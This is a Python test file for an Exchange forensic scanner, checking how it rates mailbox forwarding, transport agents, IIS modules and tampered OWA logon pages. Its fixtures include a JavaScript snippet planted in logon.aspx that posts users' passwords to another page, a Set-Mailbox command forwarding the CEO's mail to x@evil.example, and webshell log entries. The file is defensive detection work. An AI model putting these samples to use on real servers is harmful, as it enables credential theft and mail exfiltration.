"""What stays or leaks when the hole is closed: forwarding, agents, modules, changed logon pages."""

import shutil
from pathlib import Path
from typing import Any

from scenario import cmdlet, rescanned, the_host

EVTX = Path(__file__).parents[1] / "evidence" / "evtx"
AUTH = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
APPHOST = "C/Windows/System32/inetsrv/config/applicationHost.config"
FIELDS = (
    "#Software: Microsoft Internet Information Services 10.0\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
)
PAGE = """<%@ Page language="c#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<script>
function clkLgn()
{
    var sL = "lgn=" + gbid("username").value;
    document.cookie = "logondata=acc=0&" + sL;
    if (gbid("showPasswordCheck").checked)
        passwordElement.value = passwordTextElement.value;
    INSERTED
    document.cookie = "PBack=0; path=/";
    document.logonForm.submit();
}
</script>
"""
LOGGER = """var s = gbid("password").value; var x = new XMLHttpRequest();
    x.open("POST", "/owa/auth/themes.ashx", false); x.send(s);"""
MODULES = r"""<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <configSections><sectionGroup name="system.applicationHost" /></configSections>
  <system.webServer>
    <globalModules>
      <add name="StaticFileModule" image="%windir%\System32\inetsrv\static.dll" />
      <add name="RewriteModule" image="%SystemRoot%\system32\inetsrv\rewrite.dll" />
      <add name="OneMore" image="IMAGE" />
    </globalModules>
  </system.webServer>
</configuration>
"""


def put(folder: Path, path: str, text: str) -> None:
    file = folder / "EVIDENCE" / "EX01" / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, "utf-8")


def real(folder: Path, name: str) -> Path:
    (folder / "EVIDENCE").mkdir()
    shutil.copy(EVTX / name, folder / "EVIDENCE")
    return folder


def scanned(folder: Path) -> tuple[int, dict[str, Any], dict[str, dict[str, Any]]]:
    """Scan; return exit code, verdict and the findings by rule."""
    code, case = rescanned(folder)
    host = the_host(case)
    return code, host["verdict"], {finding["rule"]: finding for finding in host["findings"]}


def test_a_forwarded_mailbox_of_a_real_server_is_an_exposure_and_no_break_in(
    tmp_path: Path,
) -> None:
    code, verdict, findings = scanned(real(tmp_path, "MSExchange_Management_wec.evtx"))
    (finding,) = findings.values()
    assert finding["rule"] == "cmdlet_mailbox_forwarded_outside"
    assert (finding["level"], finding["hints"], finding["stage"]) == ("medium", "taken", None)
    assert finding["about"] == "exposure"
    assert finding["first"].startswith("2021-11-19T16:52:33")
    assert any("left" in one for one in finding["look_alikes"]), "leavers are the look-alike"
    assert verdict["status"] != "compromised"
    assert code == 3, "help desks do this every week: nothing loud"


def test_an_agent_that_could_not_be_installed_was_tried_only(tmp_path: Path) -> None:
    name = "ID6-Failed to install an Exchange transport agent.evtx"
    _, verdict, findings = scanned(real(tmp_path, name))
    assert set(findings) == {"cmdlet_transport_agent_failed"}
    finding = findings["cmdlet_transport_agent_failed"]
    assert (finding["stage"], finding["about"]) == ("probed", "persistence")
    assert finding["level"] == "medium"
    assert (verdict["status"], verdict["stage"]) == ("targeted", "probed")


def test_an_edited_list_of_agents_on_another_drive_is_worth_a_look(tmp_path: Path) -> None:
    name = "ID11-Exchange transport config modified.evtx"
    code, verdict, findings = scanned(real(tmp_path, name))
    assert set(findings) == {"file_event_agents_config_changed"}
    finding = findings["file_event_agents_config_changed"]
    assert (finding["level"], finding["hints"], finding["stage"]) == ("medium", "planted", None)
    assert verdict["status"] == "cannot-tell"
    assert code == 3, "nothing high, but too little evidence"


def test_a_logon_page_that_sends_passwords_is_a_break_in(tmp_path: Path) -> None:
    put(tmp_path, f"{AUTH}/logon.aspx", PAGE.replace("INSERTED", LOGGER))
    code, verdict, findings = scanned(tmp_path)
    assert findings["web_file_logon_page_sends_password"]["level"] == "critical"
    assert (verdict["status"], verdict["stage"]) == ("compromised", "planted")
    assert code == 1


def test_a_logon_page_with_the_company_s_look_is_silent(tmp_path: Path) -> None:
    look = 'document.getElementById("password").placeholder = "Password"; var i = "logo.png";'
    put(tmp_path, f"{AUTH}/logon.aspx", PAGE.replace("INSERTED", look))
    _, verdict, findings = scanned(tmp_path)
    assert findings == {}
    assert verdict["status"] == "cannot-tell"


def test_modules_are_judged_by_their_place_and_name(tmp_path: Path) -> None:
    expected = {
        r"C:\Windows\Temp\f.dll": ("setting_module_in_public_folder", "cannot-tell"),
        r"C:\Program Files\Vendor\Waf.dll": ("setting_module_in_odd_place", "cannot-tell"),
        r"%windir%\System32\inetsrv\authmd4.dll": (
            "setting_module_named_like_back_door",
            "compromised",
        ),
        r"%windir%\System32\inetsrv\authmd5.dll": ("", "cannot-tell"),
    }
    for number, (image, (rule, status)) in enumerate(expected.items()):
        folder = tmp_path / str(number)
        put(folder, APPHOST, MODULES.replace("IMAGE", image))
        _, verdict, findings = scanned(folder)
        assert (rule in findings) if rule else findings == {}, image
        assert verdict["status"] == status, image


def test_forwarding_in_the_hour_of_a_shell_is_told_beside_it(tmp_path: Path) -> None:
    shell = (
        "2023-05-10 {0} 10.0.0.5 POST /owa/auth/x9.aspx - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 9"
    )
    rows = "\n".join(shell.format(f"05:0{minute}:00") for minute in range(5))
    put(tmp_path, "C/inetpub/logs/LogFiles/W3SVC1/u_ex230510.log", f"{FIELDS}{rows}\n")
    forwarding = '-Identity "ceo" -ForwardingSmtpAddress "smtp:x@evil.example"'
    event = cmdlet("2023-05-10T05:03:20.402Z", "Set-Mailbox", forwarding)
    put(tmp_path, "management.json", event + "\n")
    code, verdict, findings = scanned(tmp_path)
    assert {"cmdlet_mailbox_forwarded_outside", "webserver_shell_page_post"} <= set(findings)
    assert verdict["status"] == "compromised"
    assert code == 1


def test_everyday_work_on_mailboxes_proves_nothing(tmp_path: Path) -> None:
    acts = [
        ("Add-MailboxPermission", '-Identity "info" -User "jdoe" -AccessRights "FullAccess"'),
        ("Set-Mailbox", '-Identity "leaver" -ForwardingAddress "contoso.example/Users/Deputy"'),
        ("New-TransportRule", '-Name "Disclaimer" -ApplyHtmlDisclaimerText "Contoso"'),
        ("New-MailboxSearch", '-Name "case 12" -SourceMailboxes "jdoe"'),
    ]
    lines = (cmdlet(f"2023-05-10T05:0{n}:20.402Z", *act) for n, act in enumerate(acts))
    put(tmp_path, "management.json", "\n".join(lines) + "\n")
    code, verdict, findings = scanned(tmp_path)
    assert {finding["level"] for finding in findings.values()} == {"low"}
    assert all(finding["stage"] is None for finding in findings.values())
    assert verdict["status"] == "cannot-tell"
    assert code == 3
